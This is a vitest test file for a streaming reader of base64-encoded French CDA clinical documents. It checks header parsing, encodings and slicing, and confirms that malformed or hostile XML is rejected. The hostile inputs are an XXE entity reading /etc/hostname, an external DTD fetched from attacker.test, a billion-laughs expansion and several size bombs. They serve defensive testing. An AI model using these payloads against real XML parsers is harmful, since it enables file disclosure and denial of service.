import { describe, expect, test } from 'vitest'
import { CdaReader, type CdaReading } from '../../../src/formats/cda/read.ts'
import { cda, inBase64 } from '../../support/documents.ts'

const LATIN9 = '<?xml version="1.0" encoding="ISO-8859-15"?>\n'

function readAll(base64: string | Buffer, slice = Number.MAX_SAFE_INTEGER): CdaReading {
  const reader = new CdaReader(Buffer.from(base64))
  while (!reader.run(slice));
  return reader.reading()
}

test('the header is told in words', () => {
  const { fault, header } = readAll(inBase64(cda()))
  expect(fault).toBeNull()
  expect(header).toEqual({
    typeId: { root: '2.16.840.1.113883.1.3', extension: 'POCD_HD000040' },
    templateIds: [
      { root: '2.16.840.1.113883.2.8.2.1', extension: '' },
      { root: '1.2.250.1.213.1.1.1.1', extension: '' },
    ],
    id: { root: '1.2.250.1.999.9.1', extension: '' },
    code: { code: '18748-4', codeSystem: '2.16.840.1.113883.6.1', displayName: "CR d'imagerie" },
    title: 'Compte rendu',
    effectiveTime: '20261123112500+0100',
    confidentiality: { code: 'N', codeSystem: '2.16.840.1.113883.5.25', displayName: '' },
    language: 'fr-FR',
    setId: { root: '1.2.250.1.999.9.2', extension: '7' },
    versionNumber: '2',
    patients: [
      {
        ids: [
          { root: '1.2.250.1.213.1.4.10', extension: '254035313000022' },
          { root: '1.2.250.1.999.4', extension: '300101' },
        ],
        families: [{ qualifier: 'BR', name: 'LEROUX (FICTIF)' }],
        givens: [{ qualifier: 'BR', name: 'SUZANNE' }],
        sex: 'F',
        birthTime: '19540312',
        birthPlace: '53130',
      },
    ],
    authors: [{ root: '1.2.250.1.71.4.2.1', extension: '899900000011' }],
    custodian: { root: '1.2.250.1.71.4.2.2', extension: '1539990028' },
    legalAuthenticator: { root: '1.2.250.1.71.4.2.1', extension: '899900000011' },
    encounter: {
      ids: [{ root: '1.2.250.1.999.5', extension: 'S1' }],
      code: { code: 'IMP', codeSystem: '2.16.840.1.113883.5.4', displayName: '' },
    },
    related: [
      {
        type: 'RPLC',
        ids: [{ root: '1.2.250.1.999.9.0', extension: '' }],
        setId: { root: '1.2.250.1.999.9.2', extension: '7' },
        versionNumber: '1',
      },
    ],
    body: 'structuredBody',
  })
})

const long = cda({
  body: `<nonXMLBody><text mediaType="application/pdf" representation="B64">${'QUJD\n'.repeat(60_000)}</text></nonXMLBody>`,
})

describe('it makes no difference', () => {
  const whole = readAll(inBase64(cda()))
  test.each([
    [
      'with a prefix for the namespace',
      cda()
        .replace('xmlns=', 'xmlns:c=')
        .replace(/<(\/?)(?=[A-Za-z])/g, '<$1c:')
        .replaceAll('</c:c:', '</c:'),
    ],
    ['with a byte order mark', `\ufeff${cda()}`],
    ['without a declaration', cda({ head: '' })],
  ])('%s', (_name, xml) => {
    expect(readAll(inBase64(xml))).toEqual(whole)
  })

  test('in ISO-8859-15', () => {
    const named = (head: string) => cda({ head, patient: '<name><family>ŒUVRÉ € (FICTIF)</family></name>' })
    const bytes = Buffer.from(
      named(LATIN9).replaceAll('Œ', '\xbc').replaceAll('€', '\xa4').replaceAll('’', "'"),
      'latin1',
    )
    const { fault, header } = readAll(bytes.toString('base64'))
    expect(fault).toBeNull()
    expect(header.patients[0]?.families).toEqual([{ qualifier: '', name: 'ŒUVRÉ € (FICTIF)' }])
  })

  test('in slices of any size', () => {
    const one = readAll(inBase64(long))
    expect(one.fault).toBeNull()
    expect(one.header.body).toBe('nonXMLBody')
    for (const slice of [1, 70_000, 262_144]) expect(readAll(inBase64(long), slice)).toEqual(one)
  })

  test('as XML that is not in base64', () => {
    const reader = new CdaReader(Buffer.from(cda()), 'xml')
    expect(reader.run(Number.MAX_SAFE_INTEGER)).toBe(true)
    expect(reader.reading()).toEqual(whole)
  })
})

const XXE = '<?xml version="1.0"?><!DOCTYPE ClinicalDocument [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
const LAUGHS = `<!DOCTYPE a [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]>`
const inside = (xml: string): string => cda({ body: `<structuredBody>${xml}</structuredBody>` })

describe('what is hostile or broken', () => {
  test.each<[name: string, base64: string | Buffer, fault: string]>([
    ['an entity that reads a file', inBase64(XXE + cda({ head: '' })), 'doctype'],
    [
      'a parameter entity from elsewhere',
      inBase64(`<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.test/x.dtd"> %x;]>${cda({ head: '' })}`),
      'doctype',
    ],
    ['a billion laughs', inBase64(LAUGHS + cda({ head: '' })), 'doctype'],
    ['a document type that never ends', inBase64(`<!DOCTYPE a [${' '.repeat(200_000)}`), 'doctype'],
    ['elements without end inside each other', inBase64(inside('<a>'.repeat(300_000))), 'limits'],
    ['an attribute of a megabyte', inBase64(inside(`<a b="${'x'.repeat(1_000_000)}"/>`)), 'limits'],
    [
      'a thousand attributes',
      inBase64(inside(`<a ${Array.from({ length: 1_000 }, (_, i) => `b${i}=""`).join(' ')}/>`)),
      'limits',
    ],
    ['a name of a megabyte', inBase64(inside(`<${'a'.repeat(1_000_000)}/>`)), 'limits'],
    [
      'declarations of namespaces at every depth',
      inBase64(
        inside(
          Array.from(
            { length: 250 },
            (_, i) => `<a ${Array.from({ length: 20 }, (_, j) => `xmlns:p${i}x${j}="u"`).join(' ')}>`,
          ).join(''),
        ),
      ),
      'limits',
    ],
    ['an entity that nobody declared', inBase64(inside('&eacute;')), 'syntax'],
    ['the end cut off', inBase64(cda().slice(0, -30)), 'syntax'],
    ['something behind the end', inBase64(`${cda()}<a/>`), 'syntax'],
    ['another root', inBase64('<html><body/></html>'), 'root'],
    ['a ClinicalDocument of another namespace', inBase64('<ClinicalDocument/>'), 'root'],
    [
      'bytes that are no UTF-8',
      Buffer.from(cda().replace('Résultat', 'R\xe9sultat'), 'latin1').toString('base64'),
      'encoding',
    ],
    [
      'UTF-8 cut off at the end',
      Buffer.concat([Buffer.from(cda()), Buffer.from([0xc3])]).toString('base64'),
      'encoding',
    ],
    ['an encoding that is not read', inBase64(cda({ head: '<?xml version="1.0" encoding="UTF-7"?>' })), 'encoding'],
    ['UTF-16', Buffer.from(`\ufeff${cda()}`, 'utf16le').toString('base64'), 'encoding'],
    ['a mark of UTF-8 that the declaration denies', inBase64(`\ufeff${cda({ head: LATIN9 })}`), 'encoding'],
    ['what is no base64', `${inBase64(cda()).slice(0, 400)}!${inBase64(cda()).slice(401)}`, 'base64'],
    ['base64 that ends in its middle', `${inBase64(cda()).slice(0, -4)}A`, 'base64'],
    ['nothing', '', 'syntax'],
  ])('%s', (_name, base64, fault) => {
    expect(readAll(base64, 262_144).fault).toBe(fault)
  })

  test('lists and texts are cut, however long', () => {
    const ids = Array.from({ length: 500 }, (_, i) => `<id root="1.2.${i}" extension="x"/>`).join('')
    const { fault, header } = readAll(
      inBase64(cda({ ids, patient: `<name><family>${'A'.repeat(20_000)}</family></name>` })),
    )
    expect(fault).toBeNull()
    expect(header.patients[0]?.ids).toHaveLength(32)
    expect(header.patients[0]?.families[0]?.name).toHaveLength(512)
  })

  test('endless text is passed over and not kept', () => {
    const reader = new CdaReader(Buffer.from(inBase64(inside(`<text>${'x'.repeat(4_000_000)}`))))
    let slices = 1
    while (!reader.run(262_144)) slices++
    expect(slices).toBeGreaterThan(20)
    expect(reader.reading().fault).toBe('syntax')
  })
})
